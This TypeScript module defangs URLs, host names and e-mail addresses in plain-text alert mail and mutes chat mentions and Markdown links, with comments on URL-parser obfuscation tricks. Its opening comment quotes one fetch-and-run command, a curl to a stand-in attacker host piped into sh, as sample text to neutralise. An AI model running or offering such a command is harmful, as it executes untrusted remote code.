/**
 * Defanging for plain-text e-mail. Mail clients turn anything that looks like a link into one, so a URL in model
 * output or a log line (`curl https://evil.example/x.sh | sh`) would arrive clickable in the on-call inbox.
 * Defanged text stays readable for a human and cannot be clicked: `hxxps://evil[.]example/x.sh`.
 */

/** Top-level domains clients autolink without a scheme (`evil.com/x`); file names such as `package.json` or `deploy.sh` stay. */
const BARE_HOST = /(?<![/\w.@[-])((?:[a-z0-9-]+\.)+(?:com|net|org|io|dev|app|xyz|ru|cn|info|biz|co|me|ly|gg|site|online|top|link|click|example))(?=[/:?#]|\b)/gi;

/**
 * A dot between host labels as a URL parser reads it: `.`, its percent-encoding, and the ideographic, full-width and
 * half-width ideographic dots that IDNA maps to `.` (`//login。evil。com` is `//login.evil.com` to a browser).
 */
const DOT = String.raw`(?:\.|%2e|[\u3002\uff0e\uff61])`;

/** A host label: letters of any script (full-width `ＥＶＩＬ` included), digits, `-`, percent-escapes other than a dot. */
const LABEL = String.raw`(?:[\p{L}\p{N}-]|%(?!2e)[0-9a-f]{2})+`;

/** Replaces the dots of a host name so it is no longer a link; a dot already in brackets stays as it is. */
function defangHost(host: string): string {
  return host.replace(new RegExp(`(?<!\\[)${DOT}(?!\\])`, 'giu'), (dot) => `[${dot}]`);
}

/** `https` → `hxxps` and the like; a scheme that is already defanged stays, any other gets `[:]`. */
function defangScheme(scheme: string): string {
  if (/(?:hxxps?|fxp|wxs?)$/i.test(scheme)) return scheme;
  const fanged = scheme.toLowerCase().replace(/^http/, 'hxxp').replace(/^ftp/, 'fxp').replace(/^ws/, 'wx');
  return fanged === scheme.toLowerCase() ? `${scheme}[:]` : fanged;
}

/**
 * One character of a URL's authority (up to its path, query or fragment), unless another URL starts there: read up to
 * the next slash, `https://a.example)https://evil.example&x` was one authority, and the second URL's scheme, inside
 * it, was never looked at again, so its host stayed live. A scheme glued to the text before it
 * (`a.examplehttps://…`) ends the authority too: a linkifier may start a URL there, and the scheme rules read it.
 */
const AUTHORITY_CHAR = String.raw`(?:(?!(?:https?|ftp|wss?):|[a-z][a-z0-9+.-]{0,20}:[\\/]{2})[^\s/\\?#])`;

/**
 * A scheme-less host after two or more slashes or backslashes (`//evil.example/x`, `///evil.example`, the UNC path
 * `\\build01.corp.local\share`), followed by what may follow a host in a URL, or by the end of a word: not `(`, so
 * `//console.log(x)` in a code comment is text. After `:` too: a scheme the scheme rules do not take (`x://`, `é://`,
 * `_://`) leaves its host as a linkifier sees it, and one they took ends in `]` or has `[.]` in its host.
 */
const SLASHED_HOST = new RegExp(String.raw`(?<![\w/\\])([\\/]{2,})(${LABEL}(?:${DOT}${LABEL})+)(?=[/\\:?#]|[.,;!?)\]}>'"]*(?:\s|$))`, 'giu');

/**
 * Makes every URL, host name and e-mail address in `text` unclickable while keeping it readable; everything else,
 * brackets and slashes included, stays as it was (`handlers[type](...)`, `\\build01.corp.local\artifacts`).
 * Plain text renders no Markdown; chat, which does, gets `chatText` on top. Browsers read `https:host`,
 * `https:/host` and `https:\\host` as `https://host` and `//host` as a link on the page's own scheme, so those are
 * URLs here too, with a host's dots spelled as a URL parser reads them (`%2E`, `。`, `．`). Not caught: a host
 * without any dot (`//2130706433`) after `//` alone; no mail client links that, and chat has no link syntax left.
 */
export function defang(text: string): string {
  return text
    // http, https, ftp, ws and wss are "special" schemes: a URL parser takes any number of slashes or backslashes,
    // none included, before the host. `http://` glued to a word is a URL too (see AUTHORITY_CHAR); `news:` is not.
    .replace(new RegExp(String.raw`(?:\b|(?=https?:[\\/]{2}))(https?|ftp|wss?)(:[\\/]*)(${AUTHORITY_CHAR}+)`, 'gi'), (_, scheme: string, separator: string, authority: string) => `${defangScheme(scheme)}${separator}${defangHost(authority)}`)
    // Not `\b`: GitHub autolinks a URL right after `_` (`_https://…`), which is a word character.
    .replace(new RegExp(String.raw`(?<![A-Za-z0-9+.-])([a-z][a-z0-9+.-]{1,20}):([\\/]{2})(${AUTHORITY_CHAR}*)`, 'gi'), (_, scheme: string, slashes: string, authority: string) => {
      const safe = defangScheme(scheme);
      return `${safe}${safe.endsWith(']') ? '' : ':'}${slashes}${defangHost(authority)}`;
    })
    .replace(SLASHED_HOST, (_, slashes: string, host: string) => `${slashes}${defangHost(host)}`)
    .replace(/\bwww\.[^\s/]+/gi, (host) => defangHost(host))
    .replace(/\b([A-Za-z0-9._%+-]+)@((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})\b/g, (_, user: string, host: string) => `${user}[@]${defangHost(host)}`)
    .replace(BARE_HOST, (host) => (host.includes('[.]') ? host : defangHost(host)));
}

/**
 * Makes text from a branch, a workflow, a log or a model unable to notify anyone in chat: Slack's `<!channel>`,
 * `<!here>`, `<@U…>`, `<!subteam^…>` and `<#C…>` need the angle brackets, Mattermost's `@channel`, `@all` and
 * `@user` the at sign. Brackets become look-alike quotes and an at sign before a name the full-width `＠`.
 */
export function muteMentions(text: string): string {
  return text.replace(/</g, '‹').replace(/>/g, '›').replace(/@(?=[\w.-])/g, '＠');
}

/**
 * Text for a chat message (title, description, link labels), after `defang`: no mention (`muteMentions`) and no
 * Markdown link. Mattermost and Teams render the message's Markdown, and AWS Chatbot's `client-markdown` is
 * rendered by Slack or Teams; a link's target can be spelled in more ways than defang can know (`//evil%2Eexample`,
 * `https:host`, a reference `[k]: target` on a line of its own), but every inline link, reference link, link
 * definition and image needs `[` and `]`. They become the full-width look-alikes `［` `］`, as `<` `>` (autolinks,
 * HTML) become `‹` `›`; what a renderer still links by itself, a bare URL, e-mail address or `www.` host, defang has
 * made unclickable.
 */
export function chatText(text: string): string {
  return muteMentions(text).replace(/\[/g, '［').replace(/\]/g, '］');
}
